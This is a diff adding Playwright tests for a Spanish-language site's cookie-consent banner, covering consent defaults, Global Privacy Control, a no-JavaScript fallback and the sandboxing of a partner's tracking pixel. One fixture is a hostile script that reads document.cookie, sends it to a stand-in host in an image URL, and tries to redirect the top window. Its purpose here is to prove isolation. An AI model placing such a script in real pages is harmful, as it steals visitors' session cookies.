@@ -1,0 +1,167 @@
+import type { BrowserContext, Page } from "playwright/test";
+import { expect, test } from "./application-pages.ts";
+
+const referral = "/pixels/v1/submitPartnerReferralAndEntryPixels";
+const pixelHost = "https://pixel.socio.example";
+test.use({
+  settings: { site: { TAG_MANAGER_ID: "GTM-ABCD12", ADS_ID: "AW-123456789" } },
+  partners: {
+    [referral]: {
+      success: true,
+      partnerReferralId: "R-77",
+      // It tries what a hostile partner would: to read our page, and to leave by its address.
+      pixel_code: `<script>
+        let stolen = "nothing";
+        try { stolen = parent.document.cookie } catch {}
+        try { stolen = document.cookie } catch {}
+        new Image().src = "${pixelHost}/1.gif?stolen=" + encodeURIComponent(stolen);
+        try { top.location = "${pixelHost}/" } catch {}
+      </script>`,
+    },
+  },
+});
+
+/** Everything asked of other hosts; answered here, so that nothing leaves. */
+async function watchForeign(context: BrowserContext, origin: string): Promise<string[]> {
+  const asked: string[] = [];
+  await context.route(
+    (url) => url.origin !== origin,
+    (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: "text/javascript", body: "" });
+    },
+  );
+  return asked;
+}
+const dialog = (page: Page) => page.getByRole("dialog", { name: "Tu privacidad, tú decides" });
+const preferences = (page: Page) => page.getByRole("dialog", { name: "Administrar preferencias" });
+const dataLayer = (page: Page) =>
+  page.evaluate(() =>
+    ((window as unknown as { dataLayer?: ArrayLike<unknown>[] }).dataLayer ?? []).map((entry) =>
+      "length" in entry ? Array.from(entry) : entry,
+    ),
+  );
+
+test("nothing of others before consent; after it what was allowed, denied by default first", async ({
+  page,
+  context,
+  site,
+}) => {
+  const asked = await watchForeign(context, site.origin);
+  await page.goto("/");
+  await expect(dialog(page)).toBeVisible();
+  expect(asked).toEqual([]);
+  expect(await dataLayer(page)).toEqual([]);
+
+  await dialog(page).getByRole("button", { name: "Permitir todo" }).click();
+  await expect.poll(() => asked.length).toBe(2);
+  expect(asked.sort()).toEqual([
+    "https://www.googletagmanager.com/gtag/js?id=AW-123456789",
+    "https://www.googletagmanager.com/gtm.js?id=GTM-ABCD12",
+  ]);
+  const [first, second] = await dataLayer(page);
+  const all = ["ad_storage", "ad_user_data", "ad_personalization", "analytics_storage"];
+  expect(first).toEqual(["consent", "default", Object.fromEntries(all.map((name) => [name, "denied"]))]);
+  expect(second).toEqual(["consent", "update", Object.fromEntries(all.map((name) => [name, "granted"]))]);
+
+  // The next page asks nothing again, and the edge knows the choice.
+  await page.goto("/opciones-de-privacidad");
+  await expect(page.getByLabel("Publicidad")).toBeChecked();
+  await expect(dialog(page)).toBeHidden();
+});
+
+test("only what is necessary: nothing is loaded, now or on the next page", async ({
+  page,
+  context,
+  site,
+}) => {
+  const asked = await watchForeign(context, site.origin);
+  await page.goto("/");
+  await dialog(page).getByRole("button", { name: "Solo lo necesario" }).click();
+  await expect(dialog(page)).toBeHidden();
+  await page.goto("/opciones-de-privacidad");
+  await expect(page.getByLabel("Análisis")).not.toBeChecked();
+  expect(asked).toEqual([]);
+});
+
+test("the footer's button opens the preferences on every page, by keyboard too, and a change counts", async ({
+  page,
+  context,
+  site,
+}) => {
+  const asked = await watchForeign(context, site.origin);
+  await page.goto("/opciones-de-privacidad");
+  await page.getByLabel("Análisis").check();
+  await page.getByRole("button", { name: "Guardar mis preferencias" }).click();
+  await expect(page.getByRole("status")).toHaveText("Guardamos sus preferencias.");
+  await expect.poll(() => asked.length).toBe(1);
+
+  await page.goto("/auto-credito/solicitud");
+  const button = page.getByRole("button", { name: "Administrar preferencias" });
+  await button.focus();
+  await page.keyboard.press("Enter");
+  await expect(preferences(page)).toBeVisible();
+  // What was chosen on the page without the dialog is what the dialog shows.
+  await expect(preferences(page).getByRole("checkbox", { name: /Análisis/ })).toBeChecked();
+  await expect(preferences(page).getByRole("checkbox", { name: /Publicidad/ })).not.toBeChecked();
+  await preferences(page).getByRole("button", { name: "Solo lo necesario" }).click();
+  await expect(preferences(page)).toBeHidden();
+  await page.goto("/opciones-de-privacidad");
+  await expect(page.getByLabel("Análisis")).not.toBeChecked();
+});
+
+test("without JavaScript the button leads to the page that decides", async ({ browser, site }) => {
+  const page = await browser.newPage({ javaScriptEnabled: false, baseURL: site.origin });
+  await page.goto("/");
+  await page.getByRole("button", { name: "Administrar preferencias" }).click();
+  await expect(page).toHaveURL(/\/opciones-de-privacidad\??$/);
+  await page.getByLabel("Publicidad").check();
+  await page.getByRole("button", { name: "Guardar mis preferencias" }).click();
+  await expect(page.getByRole("status")).toHaveText("Guardamos sus preferencias.");
+  await expect(page.getByLabel("Publicidad")).toBeChecked();
+  await page.close();
+});
+
+test("Global Privacy Control: advertising stays off, and the page says so", async ({ browser, site }) => {
+  const context = await browser.newContext({
+    baseURL: site.origin,
+    extraHTTPHeaders: { "sec-gpc": "1" },
+    viewport: { width: 360, height: 740 },
+  });
+  const asked = await watchForeign(context, site.origin);
+  const page = await context.newPage();
+  await page.goto("/?src=1");
+  await dialog(page).getByRole("button", { name: "Permitir todo" }).click();
+  await expect.poll(() => asked.length).toBe(1);
+  expect(asked[0]).toContain("gtm.js");
+  const [, update] = await dataLayer(page);
+  expect(update).toMatchObject([
+    "consent",
+    "update",
+    { ad_storage: "denied", analytics_storage: "granted", ad_user_data: "denied" },
+  ]);
+  await page.goto("/opciones-de-privacidad");
+  await expect(page.getByText("Su navegador envía la señal Global Privacy Control")).toBeVisible();
+  await expect(page.getByLabel("Publicidad")).toBeDisabled();
+  await context.close();
+});
+
+test("a partner's pixel runs after consent, in a frame that sees nothing of ours, and once", async ({
+  page,
+  context,
+  site,
+}) => {
+  const asked = await watchForeign(context, site.origin);
+  const pixels = () => asked.filter((url) => url.startsWith(pixelHost));
+  await page.goto("/?src=1&lnk=pixel");
+  await expect(dialog(page)).toBeVisible();
+  await expect.poll(() => page.evaluate(() => sessionStorage.getItem("pixel"))).toBe("1");
+  expect(pixels()).toEqual([]);
+  await dialog(page).getByRole("button", { name: "Permitir todo" }).click();
+  await expect.poll(pixels).toEqual([`${pixelHost}/1.gif?stolen=nothing`]);
+  await expect(page).toHaveURL(/lnk=pixel/);
+  await page.goto("/");
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  await page.goto("/politica-de-cookies");
+  expect(pixels()).toHaveLength(1);
+});
